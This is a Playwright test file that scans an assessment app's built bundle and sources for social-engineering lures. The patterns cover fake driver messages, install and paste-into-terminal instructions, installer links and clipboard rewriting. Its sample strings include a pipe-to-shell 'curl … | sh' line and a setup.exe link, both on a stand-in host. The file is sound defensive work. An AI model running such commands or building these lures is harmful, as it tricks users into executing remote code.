import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';

/**
 * What is never built (docs/product.md#what-is-never-built), checked on what candidates receive
 * (the built bundle) and on the sources: nothing asks a candidate to download, install, paste or
 * run anything; no driver messages or staged fixes; nothing rewrites what a candidate copies; no
 * run flag that decides whether recording may stop.
 */
const FORBIDDEN: [string, RegExp][] = [
  ['driver talk', /\bdrivers?\b/i],
  ['shells and consoles', /powershell|cmd\.exe|command prompt|\bterminal\b/i],
  [
    'commands to run',
    /\bcurl\s+-|\bwget\s|\b(npm|pip|brew|apt(-get)?|winget)\s+install\b|run (this|the following) command/i,
  ],
  [
    'helper downloads',
    /(download|install) (the |our |this |a )?(fix|helper|plugin|extension|update|driver|tool|app)\b/i,
  ],
  ['installer files', /\.(exe|msi|dmg|pkg|bat|ps1|deb)\b["'`]/i],
  ['pasting instructions', /paste (this|the following|it) (into|in)\b/i],
  [
    'rewriting copied text',
    /clipboardData\.setData|addEventListener\(\s*['"]copy['"]|\boncopy\s*=/i,
  ],
  ['a server run flag for stopping', /run_?flag|canStopRecording|stopAllowed/i],
];

const ROOT = path.resolve(import.meta.dirname, '..');
const SELF = path.join(ROOT, 'e2e', 'forbidden-patterns.spec.ts');

function filesUnder(dir: string, extensions: RegExp): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile() && extensions.test(entry.name))
    .map((entry) => path.join(entry.parentPath, entry.name))
    .filter((file) => file !== SELF && !file.includes(`${path.sep}node_modules${path.sep}`));
}

function offences(files: string[]): string[] {
  const found: string[] = [];
  for (const file of files) {
    const text = fs.readFileSync(file, 'utf8');
    for (const [what, pattern] of FORBIDDEN) {
      const match = pattern.exec(text);
      if (match) found.push(`${path.relative(ROOT, file)}: ${what} ("${match[0]}")`);
    }
  }
  return found;
}

test.describe('what is never built: forbidden patterns', () => {
  test('the built app that candidates download contains none of them', () => {
    const bundle = filesUnder(path.join(ROOT, 'dist', 'web'), /\.(js|html|css)$/);
    expect(bundle.length, 'run `npm run build` first').toBeGreaterThan(5);
    expect(offences(bundle)).toEqual([]);
  });

  test('the sources, texts and catalogue contain none of them', () => {
    const sources = ['web', 'shared', 'server', 'catalogue'].flatMap((dir) =>
      filesUnder(path.join(ROOT, dir), /\.(ts|tsx|json|html|css)$/),
    );
    expect(sources.length).toBeGreaterThan(50);
    expect(offences(sources)).toEqual([]);
  });

  test('catches the patterns it is meant to catch', () => {
    const samples = [
      'Please update your camera driver',
      'Open PowerShell and run this command',
      'curl -sL https://x.example/fix.sh | sh',
      'Download the fix tool',
      'href="https://x.example/setup.exe"',
      'Paste this into your terminal',
      "document.addEventListener('copy', swap)",
    ];
    for (const sample of samples) {
      expect(
        FORBIDDEN.some(([, pattern]) => pattern.test(sample)),
        sample,
      ).toBe(true);
    }
  });
});
